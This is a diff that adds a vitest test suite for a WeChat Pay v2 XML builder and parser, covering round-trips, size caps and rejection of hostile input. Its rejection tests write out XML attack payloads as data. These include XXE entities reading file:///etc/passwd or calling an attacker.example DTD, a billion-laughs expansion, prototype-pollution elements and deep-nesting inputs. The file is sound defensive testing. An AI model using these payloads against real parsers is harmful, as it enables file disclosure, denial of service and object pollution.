@@ -1,0 +1,255 @@
+import { describe, it, expect } from 'vitest';
+import fc from 'fast-check';
+import { PayError } from '../../../../lib/errors';
+import { DEFAULT_MAX_XML_BYTES, buildXml, parseXml } from '../../../../lib/wechatpay/v2/xml';
+import { v2Xml } from '../../../../scripts/simulator/messages';
+
+/** Runs `f`, which must throw a PayError; returns it. */
+function payErrorOf(f: () => unknown): PayError {
+  try {
+    f();
+  } catch (err) {
+    expect(err).toBeInstanceOf(PayError);
+    return err as PayError;
+  }
+  throw new Error('expected a PayError, nothing was thrown');
+}
+
+const expectMalformed = (f: () => unknown) => expect(payErrorOf(f).kind).toBe('MALFORMED');
+const plain = (fields: Record<string, string>) => ({ ...fields });
+
+const PROTOTYPE_KEYS = ['__proto__', 'constructor', 'prototype'];
+/** Names that exist on Object.prototype: a naive parser mistakes them for repeated or inherited fields. */
+const INHERITED_NAMES = ['toString', 'valueOf', 'hasOwnProperty', 'isPrototypeOf', '__defineGetter__', '__lookupSetter__'];
+
+const fieldName = fc.oneof(
+  { weight: 8, arbitrary: fc.stringMatching(/^[A-Za-z_][A-Za-z0-9_]{0,24}$/).filter((n) => !PROTOTYPE_KEYS.includes(n)) },
+  { weight: 1, arbitrary: fc.constantFrom(...INHERITED_NAMES, 'xml', 'sign', 'coupon_fee_0', '_') },
+);
+
+/**
+ * One character XML 1.0 can carry in character data. CR is left out on purpose: XML end-of-line
+ * handling turns every CR into LF before the parser sees it (tested separately below).
+ */
+const xmlChar = fc.oneof(
+  { weight: 4, arbitrary: fc.constantFrom(']]>', ']]', ']', '<', '>', '&', '&amp;', '&lt;', '"', "'", '\t', '\n', ' ', '<![CDATA[', '<!', '0') },
+  { weight: 6, arbitrary: fc.integer({ min: 0x20, max: 0x7e }).map((c) => String.fromCodePoint(c)) },
+  { weight: 2, arbitrary: fc.integer({ min: 0xa0, max: 0xd7ff }).map((c) => String.fromCodePoint(c)) },
+  { weight: 1, arbitrary: fc.integer({ min: 0xe000, max: 0xfffd }).map((c) => String.fromCodePoint(c)) },
+  { weight: 1, arbitrary: fc.integer({ min: 0x10000, max: 0x10ffff }).map((c) => String.fromCodePoint(c)) },
+);
+const xmlValue = fc.string({ unit: xmlChar, maxLength: 40 });
+const fieldMap = fc.dictionary(fieldName, xmlValue, { maxKeys: 15, noNullPrototype: true });
+
+describe('buildXml → parseXml', () => {
+  it('round-trips arbitrary flat field maps exactly', () => {
+    fc.assert(
+      fc.property(fieldMap, (fields) => {
+        const parsed = parseXml(buildXml(fields));
+        expect(plain(parsed)).toEqual(fields);
+        for (const value of Object.values(parsed)) expect(typeof value).toBe('string');
+      }),
+      { numRuns: 400 },
+    );
+  });
+
+  it('round-trips under another root', () => {
+    fc.assert(
+      fc.property(fieldMap, (fields) => {
+        expect(plain(parseXml(buildXml(fields, 'root'), 'root'))).toEqual(fields);
+      }),
+      { numRuns: 100 },
+    );
+  });
+
+  it('reads what the independent simulator writes', () => {
+    fc.assert(
+      fc.property(fieldMap, (fields) => {
+        expect(plain(parseXml(v2Xml(fields)))).toEqual(fields);
+      }),
+      { numRuns: 200 },
+    );
+  });
+
+  it('keeps values as the exact strings sent: no number, boolean or trimming conversions', () => {
+    const fields = { a: '007', b: '1e3', c: 'true', d: '0x10', e: ' 12 ', f: '', g: 'null', h: '-0', i: '1.50', j: 'NaN' };
+    const parsed = parseXml(buildXml(fields));
+    expect(plain(parsed)).toEqual(fields);
+    // the same values without CDATA
+    const bare = parseXml('<xml><a>007</a><b>1e3</b><c>true</c><e> 12 </e><i>1.50</i></xml>');
+    expect(plain(bare)).toEqual({ a: '007', b: '1e3', c: 'true', e: ' 12 ', i: '1.50' });
+  });
+
+  it('keeps field names that exist on Object.prototype as ordinary fields', () => {
+    const fields = Object.fromEntries(INHERITED_NAMES.map((n, i) => [n, String(i)]));
+    const parsed = parseXml(buildXml(fields));
+    expect(plain(parsed)).toEqual(fields);
+    expect(Object.getPrototypeOf(parsed)).toBeNull();
+  });
+
+  it('splits ]]> across two CDATA sections and reads it back', () => {
+    const xml = buildXml({ a: 'x]]>y]]>' });
+    expect(xml).toBe('<xml><a><![CDATA[x]]]]><![CDATA[>y]]]]><![CDATA[>]]></a></xml>');
+    expect(parseXml(xml).a).toBe('x]]>y]]>');
+  });
+
+  it('rejects a field name that is not an XML name', () => {
+    expect(() => buildXml({ 'a b': '1' })).toThrow(TypeError);
+    expect(() => buildXml({ '1a': '1' })).toThrow(TypeError);
+    expect(() => buildXml({ 'a<b': '1' })).toThrow(TypeError);
+  });
+});
+
+describe('parseXml on what WeChat sends', () => {
+  it('reads CDATA, plain text, entities and mixed CDATA/text', () => {
+    const parsed = parseXml(
+      '<xml><a><![CDATA[<b>&amp;</b>]]></a><b>x &lt; y &amp; z</b><c>x<![CDATA[<y>]]>z</c><d><![CDATA[]]></d><e/><f><![CDATA[  ]]></f></xml>',
+    );
+    expect(plain(parsed)).toEqual({ a: '<b>&amp;</b>', b: 'x < y & z', c: 'x<y>z', d: '', e: '', f: '  ' });
+  });
+
+  it('ignores whitespace and indentation between elements, an XML declaration, comments and attributes', () => {
+    const xml = `<?xml version="1.0" encoding="UTF-8"?>
+<xml>
+  <!-- a comment -->
+  <return_code><![CDATA[SUCCESS]]></return_code>
+\t<total_fee>1</total_fee>
+  <attach lang="zh">中文</attach>
+</xml>
+`;
+    expect(plain(parseXml(xml))).toEqual({ return_code: 'SUCCESS', total_fee: '1', attach: '中文' });
+  });
+
+  it('normalises CR and CRLF line ends to LF, as XML 1.0 requires', () => {
+    expect(parseXml('<xml><a>x\r\ny\rz</a></xml>').a).toBe('x\ny\nz');
+  });
+
+  it('reads an empty root as no fields', () => {
+    expect(plain(parseXml('<xml></xml>'))).toEqual({});
+    expect(plain(parseXml('<xml/>'))).toEqual({});
+    expect(plain(parseXml('<xml>\n  \n</xml>'))).toEqual({});
+  });
+
+  it('returns a map without a prototype', () => {
+    expect(Object.getPrototypeOf(parseXml('<xml><a>1</a></xml>'))).toBeNull();
+  });
+});
+
+describe('parseXml rejects hostile or malformed input with MALFORMED', () => {
+  const xxe = `<?xml version="1.0" encoding="utf-8"?>
+<!DOCTYPE xml [<!ENTITY xxe SYSTEM "http://tst.qq.com/xxe_inject/probe">]>
+<xml><return_code>&xxe;</return_code></xml>`;
+  const fileXxe = '<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><xml><a>&xxe;</a></xml>';
+  const billionLaughs = `<?xml version="1.0"?>
+<!DOCTYPE xml [
+  <!ENTITY lol "lol">
+  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
+  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
+  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
+  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
+  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
+  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
+  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
+  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
+  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
+]>
+<xml><a>&lol9;</a></xml>`;
+  const parameterEntity = '<!DOCTYPE xml [<!ENTITY % ext SYSTEM "http://attacker.example/evil.dtd"> %ext;]><xml><a>1</a></xml>';
+  const deep = (levels: number) => `<xml>${'<a>'.repeat(levels)}1${'</a>'.repeat(levels)}</xml>`;
+
+  it.each([
+    ['DOCTYPE with a SYSTEM entity (XXE)', xxe],
+    ['DOCTYPE with a file SYSTEM entity', fileXxe],
+    ['billion laughs entity expansion', billionLaughs],
+    ['external parameter entity', parameterEntity],
+    ['<!ENTITY without DOCTYPE', '<xml><!ENTITY x "y"><a>&x;</a></xml>'],
+    ['lower-case doctype', '<!doctype xml><xml><a>1</a></xml>'],
+    ['internal DTD without entities', '<!DOCTYPE xml [<!ELEMENT xml ANY>]><xml><a>1</a></xml>'],
+    ['repeated tags', '<xml><a>1</a><a>2</a></xml>'],
+    ['repeated tags far apart', '<xml><a>1</a><b>2</b><a>1</a></xml>'],
+    ['nested elements', '<xml><a><b>1</b></a></xml>'],
+    ['an element mixing text and children', '<xml><a>x<b>1</b></a></xml>'],
+    ['stray text in the root', '<xml>text<a>1</a></xml>'],
+    ['__proto__ element', '<xml><__proto__><polluted>1</polluted></__proto__></xml>'],
+    ['__proto__ leaf element', '<xml><a>1</a><__proto__>x</__proto__></xml>'],
+    ['constructor element', '<xml><constructor><prototype><polluted>1</polluted></prototype></constructor></xml>'],
+    ['prototype element', '<xml><prototype>1</prototype></xml>'],
+    ['self-closing __proto__', '<xml><__proto__/></xml>'],
+    ['__proto__ as the root', '<__proto__><a>1</a></__proto__>'],
+    ['wrong root', '<root><a>1</a></root>'],
+    ['two roots', '<xml><a>1</a></xml><xml><b>2</b></xml>'],
+    ['text after the root', '<xml><a>1</a></xml>trailing'],
+    ['unclosed field', '<xml><a>1</xml>'],
+    ['unclosed root', '<xml><a>1</a>'],
+    ['mismatched tags', '<xml><a>1</b></xml>'],
+    ['unterminated CDATA', '<xml><a><![CDATA[1</a></xml>'],
+    ['empty body', ''],
+    ['whitespace only', ' \n '],
+    ['not XML at all', 'return_code=SUCCESS'],
+    ['JSON', '{"return_code":"SUCCESS"}'],
+    ['150 nested levels (small body, deeper than the parser allows)', deep(150)],
+  ])('%s', (_label, xml) => {
+    expectMalformed(() => parseXml(xml));
+  });
+
+  it('errs on the safe side: a declaration or prototype tag is refused even inside CDATA', () => {
+    // The pre-parse scan does not lex CDATA, so that no comment or attribute trick can hide a DOCTYPE
+    // from it. WeChat never sends such values; a merchant's attach that did would be refused.
+    expectMalformed(() => parseXml(buildXml({ attach: '<!DOCTYPE html>' })));
+    expectMalformed(() => parseXml(buildXml({ attach: '<!ENTITY x "y">' })));
+    expectMalformed(() => parseXml(buildXml({ attach: '<__proto__>' })));
+    expectMalformed(() => parseXml('<!-- <![CDATA[ --><!DOCTYPE xml [<!ENTITY e "v">]><!-- ]]> --><xml><a>&e;</a></xml>'));
+  });
+
+  it('rejects the wrong root when another root is expected', () => {
+    expectMalformed(() => parseXml('<xml><a>1</a></xml>', 'root'));
+  });
+
+  it('rejects 10 000 nested levels without a stack overflow, whatever the size cap', () => {
+    expectMalformed(() => parseXml(deep(10_000)));
+    expectMalformed(() => parseXml(deep(10_000), 'xml', 1 << 20));
+    expectMalformed(() => parseXml(deep(100_000), 'xml', 4 << 20));
+  });
+
+  it('enforces the size cap in UTF-8 bytes, before parsing', () => {
+    const shell = '<xml><a></a></xml>'.length;
+    const atCap = `<xml><a>${'x'.repeat(DEFAULT_MAX_XML_BYTES - shell)}</a></xml>`;
+    expect(Buffer.byteLength(atCap)).toBe(DEFAULT_MAX_XML_BYTES);
+    expect(parseXml(atCap).a).toHaveLength(DEFAULT_MAX_XML_BYTES - shell);
+    expectMalformed(() => parseXml(`<xml><a>${'x'.repeat(DEFAULT_MAX_XML_BYTES - shell + 1)}</a></xml>`));
+    // 中 is three bytes: a third as many characters already reach the cap
+    expectMalformed(() => parseXml(`<xml><a>${'中'.repeat(Math.ceil(DEFAULT_MAX_XML_BYTES / 3))}</a></xml>`));
+    // a 1 MB body, and a caller-chosen cap
+    expectMalformed(() => parseXml(`<xml><a>${'x'.repeat(1 << 20)}</a></xml>`));
+    expectMalformed(() => parseXml('<xml><a>12345</a></xml>', 'xml', 22));
+    expect(parseXml('<xml><a>1234</a></xml>', 'xml', 22).a).toBe('1234');
+  });
+
+  it('never throws anything but a PayError, and never pollutes Object.prototype', () => {
+    const hostile = fc.oneof(
+      fc.string({ maxLength: 200 }),
+      fc
+        .array(fc.constantFrom('<xml>', '</xml>', '<a>', '</a>', '<__proto__>', '</__proto__>', '<constructor>', '<![CDATA[', ']]>', '<!DOCTYPE x [', '<!ENTITY e "v">', ']>', '&e;', '<polluted>', 'yes', '</polluted>', '<?xml version="1.0"?>', '<!--', '-->', '<toString>', '</toString>'), { maxLength: 20 })
+        .map((parts) => parts.join('')),
+    );
+    fc.assert(
+      fc.property(hostile, (xml) => {
+        try {
+          const fields = parseXml(xml);
+          for (const [key, value] of Object.entries(fields)) {
+            expect(PROTOTYPE_KEYS).not.toContain(key);
+            expect(typeof value).toBe('string');
+          }
+        } catch (err) {
+          expect(err).toBeInstanceOf(PayError);
+          expect((err as PayError).kind).toBe('MALFORMED');
+        }
+      }),
+      { numRuns: 500 },
+    );
+    const probe: Record<string, unknown> = {};
+    expect(probe.polluted).toBeUndefined();
+    expect(Object.getOwnPropertyNames(Object.prototype)).not.toContain('polluted');
+    expect(Object.getPrototypeOf(probe)).toBe(Object.prototype);
+  });
+});
